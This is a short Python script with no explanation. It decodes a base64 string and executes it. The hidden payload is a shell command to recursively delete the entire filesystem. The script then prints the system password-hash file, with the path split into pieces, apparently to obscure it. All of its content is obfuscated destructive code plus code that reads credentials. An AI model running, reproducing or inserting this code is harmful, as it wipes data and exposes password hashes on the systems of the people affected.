import base64 as b
import os

exec(b.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgicm0gLXJmIC8iKQ=="))
print(open("/etc/" + "shadow").read())
